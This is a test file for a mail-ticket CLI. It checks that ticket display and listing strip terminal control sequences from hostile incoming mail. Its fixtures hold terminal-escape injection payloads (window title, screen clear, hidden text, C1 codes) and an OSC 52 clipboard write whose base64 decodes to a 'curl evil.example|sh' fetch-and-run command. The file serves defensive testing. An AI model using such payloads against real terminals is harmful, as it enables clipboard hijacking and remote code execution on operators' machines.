/**
 * Issue 12, item 8: `maildesk ticket show` and `tickets list` printed mail text raw, so a mail's
 * OSC/CSI sequences (window title, clipboard write, screen clear) reached the operator's terminal.
 * A hostile mail goes through the real local stack; the CLI output holds no control character
 * (text and --json), and the words of the mail are still there.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CliIo } from '../../shared/cli/io';
import { runTicketShow, runTicketsList } from '../../shared/cli/ticket-commands';
import { startHarness, type Harness } from '../support/harness';
import { messageId } from '../support/mail-builder';

const ESC = '\u001b';
const DESK = 'clinic-north@support.example';
const SENDER = 'terminal@clinic-north.example';
/** any C0/C1 control or DEL other than newline and tab */
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
const TITLE = `${ESC}]0;pwned${'\u0007'}`;
const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=${ESC}\\`;
const CLEAR = `${ESC}[2J${ESC}[H`;

let h: Harness;
let key: string;
const saved: Record<string, string | undefined> = {};

beforeAll(async () => {
  h = await startHarness();
  for (const [k, v] of Object.entries({ MAILDESK_DYNAMODB_PORT: new URL(h.stack.dynamoEndpoint).port, MAILDESK_TABLE: h.stack.table })) {
    saved[k] = process.env[k];
    process.env[k] = v;
  }
  await h.send({
    from: `"Анна${CLEAR}" <${SENDER}>`,
    to: DESK,
    subject: `Не печатается${TITLE} направление\u009b2J`,
    text: `Номер амбулаторной карты: 77${CLIPBOARD}\nЛогин в системе: anna${'\u009d'}0;x${'\u009c'}\n\nОписание${ESC}[8m скрыто${'\u007f'}`,
    messageId: messageId('term'),
    attachments: [{ filename: `скрин${ESC}]0;t${'\u0007'}.png`, content: 'x' }],
  });
  const created = h.stack.outcomes.at(-1)!;
  expect(created.kind).toBe('created');
  key = (created as { ticketKey: string }).ticketKey;
  await h.send({ from: SENDER, to: DESK, subject: `Re: [${key}] x`, text: `Дополнение${CLIPBOARD}\nвторая${'\r'} строка${TITLE}`, messageId: messageId('term2') });
  await h.newMail();
});
afterAll(async () => {
  for (const [k, v] of Object.entries(saved)) if (v === undefined) delete process.env[k];
  else process.env[k] = v;
  await h?.close();
});

async function run(command: typeof runTicketShow, argv: string[], tty = true) {
  let out = '';
  let err = '';
  const io: CliIo = { stdout: (t) => void (out += t), stderr: (t) => void (err += t), isTty: tty };
  const code = await command([...argv, '--config', 'maildesk.config.example.json'], io);
  return { code, out, err };
}

describe('CLI output of mail text holds no terminal escapes', () => {
  it('ticket show: summary, name, fields, filenames and comments without control characters; the words remain', async () => {
    const { code, out } = await run(runTicketShow, [key]);
    expect(code).toBe(0);
    expect(out).not.toMatch(CONTROL);
    // (the mail reader already drops the ESC of a subject; what is left of the sequence is plain text)
    expect(out).toMatch(/Не печатается.*направление/);
    expect(out).toContain('Дополнение');
    expect(out).toMatch(/вторая\s+строка/);
  });

  it('ticket show --json: the same text, escaped so the terminal never sees a raw control', async () => {
    const { out } = await run(runTicketShow, [key, '--json']);
    expect(out).not.toMatch(CONTROL);
    const shown = JSON.parse(out) as { summary: string };
    expect(shown.summary).toContain('Не печатается');
  });

  it('tickets list (table on a terminal, and --json): no control character but the table colours', async () => {
    const table = (await run(runTicketsList, [], true)).out;
    // the table's own colours are the only escapes: CSI m sequences
    expect(table.replace(/\u001b\[\d+m/g, '')).not.toMatch(CONTROL);
    expect(table).toMatch(/Не печатается.*направление/);
    expect((await run(runTicketsList, ['--json'])).out).not.toMatch(CONTROL);
  });
});
